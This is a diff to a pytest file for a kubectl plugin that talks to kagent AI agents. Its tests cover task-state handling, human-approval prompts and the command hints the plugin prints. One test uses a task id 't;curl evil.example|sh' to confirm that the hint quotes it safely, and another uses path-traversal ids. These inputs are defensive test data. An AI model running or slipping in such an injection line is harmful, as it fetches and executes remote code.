@@ -112,10 +112,106 @@ def test_who_must_be_asked_where_nobody_is(kagent: Kagent) -> None:
         ]
 
 
-def test_a_task_that_waits_for_nobody_knows_what(kagent: Kagent) -> None:
-    with talking([update("auth-required", text("log in"))]) as agent:
+def test_the_command_that_a_hint_gives_is_one_command_whatever_the_ids_are(kagent: Kagent) -> None:
+    evil = "t;curl evil.example|sh"
+    turn = [{**update("input-required", request("c1", "delete")), "taskId": evil}]
+    with talking(turn) as agent:
+        code, _, err = chat(kagent, agent, "hello", "--user-id=O'Brien")
+    assert (code, err.splitlines()[-1]) == (
+        7,
+        f"hint: kubectl kagent approvals approve '{evil}' '--user-id=O'\"'\"'Brien' (or reject)",
+    )
+
+
+def test_an_end_that_the_task_takes_back_is_none(kagent: Kagent) -> None:
+    """It did not say that it is final."""
+    with talking([*NOON, update("failed", text("no"))]) as agent:
+        assert chat(kagent, agent, "hello") == (
+            1,
+            "It is noon.\n",
+            f"{CLOSING}error: agent clock's task is failed: no\n",
+        )
+
+
+@pytest.mark.parametrize("state", ["TASK_STATE_COMPLETED", "Completed", "completed ", "COMPLETED", "done"])
+def test_a_state_that_only_looks_completed_is_not(kagent: Kagent, state: str) -> None:
+    """It is asked what has become of the task."""
+    with talking([update(state)], task=task("failed")) as agent:
+        code, out, err = chat(kagent, agent, "hello")
+    assert (code, out, err) == (1, "", f"{CLOSING}error: agent clock's task is failed\n")
+
+
+def test_an_error_beside_a_result_counts(kagent: Kagent) -> None:
+    both = {"result": update("completed"), "error": {"code": 1, "message": "x"}}
+    with talking([f"data: {json.dumps(both)}\n\n".encode()]) as agent:
+        assert chat(kagent, agent, "hello") == (1, "", "error: x (JSON-RPC error 1)\n")
+
+
+def test_an_id_that_is_a_path_is_looked_up_as_an_id(kagent: Kagent) -> None:
+    ids = {"taskId": "../../agents", "contextId": "../.."}
+    turn = [{**update("working", text("x")), **ids}, b""]
+    there = task("working", id_="../../agents", session="../..")
+    with talking(turn, again=[[{**update("completed"), **ids}]], task=there) as agent:
+        assert chat(kagent, agent, "hello")[0] == 0
+    assert {asked.path.partition("?")[0] for asked in agent.requests} == {"/api/a2a/default/clock"}
+    assert agent.calls[1:] == [
+        ("tasks/get", {"id": "../../agents"}),
+        ("tasks/resubscribe", {"id": "../../agents"}),
+    ]
+
+
+def test_another_tasks_end_is_not_the_end_of_the_turn(kagent: Kagent) -> None:
+    """A sub-agent's task may pass by, and the stream break before our own ends."""
+    other = {**update("completed", text("Found it.")), "final": True} | {"taskId": "x", "contextId": "y"}
+    turn = [update("submitted"), update("working", text("I begin.")), other, b""]
+    with talking(turn, again=[[update("failed", text("no"))]]) as agent:
+        code, out, err = chat(kagent, agent, "hello")
+    assert (code, out) == (1, "I begin.\nFound it.\n")
+    assert err.splitlines()[1:] == [CLOSING[:-1], "error: agent clock's task is failed: no"]
+    assert [params for method, params in agent.calls if method == "tasks/get"] == [{"id": TASK}]
+
+
+def test_two_requests_of_one_id_are_told(kagent: Kagent) -> None:
+    """And one that comes again, as the update that waits repeats it, is told once."""
+    first, second = request("c1", "list_files"), request("c1", "drop", name="prod")
+    turn = [update("working", first), update("input-required", first, second)]
+    with talking(turn) as agent:
         code, _, err = chat(kagent, agent, "hello")
-    assert (code, err.splitlines()[1]) == (7, "error: agent clock waits for somebody: log in")
+    what = 'approval of list_files; approval of drop name="prod"'
+    assert (code, err.splitlines()[1]) == (7, f"error: agent clock waits for somebody: {what}")
+
+
+def test_a_call_that_can_not_be_read_is_told_with_its_name(kagent: Kagent) -> None:
+    odd = request("c2", "x")
+    odd["data"]["args"]["originalFunctionCall"] = {"id": "c" * 200, "name": "drop", "args": ["prod"]}
+    with talking([update("input-required", request("c1", "list_files"), odd)]) as agent:
+        code, _, err = chat(kagent, agent, "hello")
+    assert (code, err) == (
+        7,
+        f"{CLOSING}error: agent clock waits for somebody: approval of list_files; what is not understood: "
+        f'{{"name": "drop", "id": "{"c" * 200}", "args": ["prod"]}}\n'
+        f"hint: kubectl kagent approvals reject {TASK} rejects all of it\n",
+    )
+
+
+@pytest.mark.parametrize(
+    ("state", "words", "said"),
+    [
+        ("auth-required", ["log in"], "log in"),
+        ("input-required", ["Which\none?"], "Which one?"),
+        ("input-required", [], "input-required"),
+    ],
+)
+def test_what_waits_for_words_is_answered_with_words(
+    kagent: Kagent, state: str, words: list[str], said: str
+) -> None:
+    with talking([update(state, *map(text, words))]) as agent:
+        code, _, err = chat(kagent, agent, "hello", "--user-id=jane")
+    assert (code, err) == (
+        7,
+        f"{CLOSING}error: agent clock waits for somebody: {said}\n"
+        f"hint: kubectl kagent chat clock MESSAGE -n default --session={SESSION} --user-id=jane answers it\n",
+    )
 
 
 def test_json_is_every_event_as_it_came(kagent: Kagent) -> None:
@@ -180,10 +276,10 @@ def test_an_approval_protocol_that_is_not_known_is_said_once(kagent: Kagent, nam
     with talking([update("submitted"), asks, asks], card=card if named_by == "card" else {}) as agent:
         code, _, err = chat(kagent, agent, "hello")
     assert code == 7
-    assert err.startswith(
-        f"Warning: this kagent speaks an approval protocol that this plugin does not know: {HITL}\n"
+    assert err == (
+        f"Warning: this kagent speaks an approval protocol that this plugin does not know: {HITL}\n{CLOSING}"
+        "error: agent clock waits for somebody: May I?\nhint: decide it in kagent's own UI\n"
     )
-    assert err.count(HITL) == 1
 
 
 def test_an_event_in_several_lines_is_one(kagent: Kagent) -> None:
